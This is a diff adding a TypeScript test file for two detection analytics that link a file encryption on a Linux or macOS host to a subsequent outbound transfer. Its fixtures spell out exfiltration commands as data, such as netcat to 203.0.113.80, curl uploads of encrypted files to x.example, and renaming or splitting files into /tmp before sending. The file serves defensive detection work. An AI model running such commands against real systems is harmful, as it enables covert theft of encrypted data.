@@ -1,0 +1,168 @@
+import { describe, expect, it } from 'vitest';
+import { HOUR, MINUTE, SECOND, T0 } from '../../test/host-events.ts';
+import { egress, hostView, observed, process } from '../../test/host-view.ts';
+import { DEFAULT_PARAMETERS } from '../findings/parameters.ts';
+import type { Process } from '../hosts/process.ts';
+import { an1390 } from './an1390.ts';
+import { an1391 } from './an1391.ts';
+import type { Candidate } from './candidate.ts';
+import type { Egress, HostView, ObservedOperation } from './host-view.ts';
+
+const ENCRYPTED = T0 + MINUTE;
+
+/** A process of a Linux host, as auditd tells of it. */
+function run(command: string, more: Partial<Process> = {}): Process {
+  const words = command.split(' ');
+  return process({
+    platform: 'linux',
+    image: `/usr/bin/${words[0] ?? ''}`,
+    arguments: words,
+    commandLine: command,
+    cwd: '/home/alice',
+    start: ENCRYPTED,
+    firstSeen: ENCRYPTED,
+    lastSeen: ENCRYPTED,
+    user: 'alice',
+    session: '9',
+    ...more,
+  });
+}
+
+function candidates(view: Partial<HostView>, analytic = an1390): Candidate[] {
+  return analytic.candidates(
+    hostView({ platform: 'linux', ...view }),
+    DEFAULT_PARAMETERS.correlationWindow,
+  );
+}
+
+function ties(sending: Egress, operation: ObservedOperation, analytic = an1390): string[] {
+  const processes = [sending.process, operation.process];
+  return candidates({ processes, egresses: [sending], operations: [operation] }, analytic).flatMap(({ links }) =>
+    links.map(({ link }) => link.kind),
+  );
+}
+
+/** Connects ten seconds after the encryption. */
+const sends = (by: Process, after = 10 * SECOND): Egress => egress(by, { first: ENCRYPTED + after });
+const encrypts = (by: Process, outputs: readonly string[] = []): ObservedOperation =>
+  observed(by, { outputs }, { time: ENCRYPTED });
+
+describe('AN1390', () => {
+  const script = run('bash backup.sh', { start: T0 });
+  const typed = run('-bash', { image: '/usr/bin/bash', start: T0 });
+
+  it('is silent on a connection alone and on an encryption alone', () => {
+    expect(candidates({ egresses: [sends(run('curl -T a https://x.example'))] })).toEqual([]);
+    expect(candidates({ operations: [encrypts(run('openssl enc'))] })).toEqual([]);
+  });
+
+  it('ties a pipeline whatever order its members started in', () => {
+    for (const apart of [-200, 0, 200]) {
+      const cipher = run('openssl enc -aes-256-cbc', { parent: typed });
+      const sender = run('nc 203.0.113.80 8443', { parent: typed, start: ENCRYPTED + apart });
+      expect(ties(sends(sender, -50), encrypts(cipher))).toContain('pipeline');
+    }
+  });
+
+  it('does not take a download, a server or a session on another host for a transfer', () => {
+    const cipher = encrypts(run('openssl enc', { parent: script }), ['/tmp/a.bin']);
+    for (const command of ['curl -o page.html https://x.example/', 'nc -l 4444', 'ssh admin@x.example'])
+      expect(ties(sends(run(command, { parent: script, start: ENCRYPTED + SECOND })), cipher), command).toEqual([]);
+  });
+
+  it('knows the file by the name the sender gives it, from its own folder, or after it was moved or split', () => {
+    const cipher = encrypts(run('openssl enc', { session: '8' }), ['sealed.bin']);
+    const other = { session: '77', user: 'bob' };
+    for (const [command, cwd] of [
+      ['curl -T /home/alice/sealed.bin http://x.example', '/home/bob'],
+      ['curl -T ../alice/sealed.bin http://x.example', '/home/bob'],
+      ['curl --data-binary @sealed.bin http://x.example', '/home/alice'],
+    ] as const)
+      expect(ties(sends(run(command, { ...other, cwd })), cipher), command).toEqual(['artefact']);
+    const moved = run('mv sealed.bin /tmp/.cache.db');
+    const split = run('split -b 1m /tmp/.cache.db /tmp/part.');
+    const sender = run('curl -T /tmp/part.ab http://x.example', other);
+    const view = { processes: [moved, split, sender], egresses: [sends(sender)], operations: [cipher] };
+    expect(candidates(view).flatMap(({ links }) => links.map(({ link }) => link.kind))).toEqual(['artefact']);
+  });
+
+  it('follows a renaming that a sensor saw', () => {
+    const cipher = encrypts(run('openssl enc'), ['/home/alice/a.enc']);
+    const sender = run('curl -T /srv/out.dat http://x.example', { session: '5', user: 'bob' });
+    const renames = new Map([['/home/alice/a.enc', new Set(['/srv/out.dat'])]]);
+    const found = candidates({ renames, egresses: [sends(sender)], operations: [cipher] });
+    expect(found.flatMap(({ links }) => links.map(({ link }) => link.kind))).toEqual(['artefact']);
+  });
+
+  it('lets a sender of other files go', () => {
+    const cipher = encrypts(run('gpg -c notes', { parent: typed }), ['/home/alice/notes.gpg']);
+    const sender = run('curl -T report.pdf http://x.example', { parent: typed, start: ENCRYPTED + 5 * SECOND });
+    expect(ties(sends(sender), cipher)).toEqual([]);
+  });
+
+  it('reads for whom a process carries', () => {
+    const cipher = encrypts(run('openssl enc', { session: '45' }), ['/home/alice/q3.enc']);
+    const scp = run('scp q3.enc xfer@203.0.113.80:', { session: '46' });
+    const ssh = run('ssh -x -l xfer -s -- 203.0.113.80 sftp', { parent: scp, session: '46' });
+    expect(ties(sends(ssh, 150 * SECOND), cipher)).toEqual(['artefact']);
+  });
+
+  it('ties a socket that the shell opened before it became the cipher', () => {
+    const shell = run('bash send.sh');
+    const cipher = run('openssl enc -aes-256-cbc', { replaced: shell, pid: shell.pid });
+    expect(ties(sends(shell, -SECOND), encrypts(cipher))).toEqual(['lineage']);
+  });
+
+  it('gives the next command of a typing person less weight than that of a script', () => {
+    const weight = (parent: Process): number => {
+      const cipher = encrypts(run('gpg -c notes', { parent }));
+      const sender = run('uploader --now', { parent, start: ENCRYPTED + 20 * SECOND });
+      return candidates({ egresses: [sends(sender, 30 * SECOND)], operations: [cipher] })[0]?.links[0]?.link.weight ?? 0;
+    };
+    expect(weight(typed)).toBeLessThan(weight(script));
+  });
+
+  it('is one act: control and data connection, and the turns of a loop', () => {
+    const cipher = encrypts(run('7z a -px big.7z a', { parent: script }), ['/home/alice/big.7z']);
+    const ftp = run('ftp 203.0.113.80', { parent: script, start: ENCRYPTED + SECOND });
+    const found = candidates({
+      egresses: [sends(ftp), egress(ftp, { port: 50_123, first: ENCRYPTED + 11 * SECOND })],
+      operations: [cipher],
+    });
+    expect(found.map(({ egress: { port }, also }) => [port, also?.map((one) => one.port)])).toEqual([[443, [50_123]]]);
+    const turns = [0, 1, 2].map((turn) =>
+      sends(run('curl -T big.7z http://x.example', { parent: script, start: ENCRYPTED + turn * 5 * SECOND }), (turn + 1) * 5 * SECOND),
+    );
+    const loop = candidates({ egresses: turns, operations: [cipher] });
+    expect(loop.map(({ also }) => also?.length)).toEqual([2]);
+    const nextDay = sends(run('curl -T big.7z http://x.example', { parent: script, start: ENCRYPTED + 20 * HOUR }), 20 * HOUR);
+    expect(candidates({ egresses: [...turns, nextDay], operations: [cipher] })).toHaveLength(2);
+  });
+
+  it('is one act in any order of the sendings', () => {
+    const cipher = encrypts(run('7z a -px big.7z a', { parent: script }), ['/home/alice/big.7z']);
+    const turns = [0, 1, 2].map((turn) =>
+      sends(run('curl -T big.7z http://x.example', { parent: script }), (turn + 1) * 5 * SECOND),
+    );
+    const of = (egresses: readonly Egress[]): unknown =>
+      candidates({ egresses, operations: [cipher] }).map(({ egress: { first }, also }) => [first, also?.map((one) => one.first)]);
+    expect(of(turns.toReversed())).toEqual(of(turns));
+  });
+});
+
+describe('AN1391', () => {
+  const script = run('bash backup.sh', { platform: 'macos', start: T0 });
+  const cipher = encrypts(run('openssl enc', { platform: 'macos', parent: script }));
+  const sender = run('curl -T - http://x.example', { platform: 'macos', parent: script, start: ENCRYPTED });
+
+  it('is encryption followed by the connection: not one that was over before', () => {
+    expect(ties(sends(sender, SECOND), cipher, an1391)).not.toEqual([]);
+    expect(ties(sends(sender, -SECOND), cipher, an1391)).not.toEqual([]);
+    expect(ties(sends(sender, -5 * SECOND), cipher, an1391)).toEqual([]);
+  });
+
+  it('leaves browsers and the system’s own services alone', () => {
+    const safari = run('Safari', { parent: script, image: '/Applications/Safari.app/Contents/MacOS/Safari' });
+    expect(ties(sends(safari), cipher, an1391)).toEqual([]);
+  });
+});
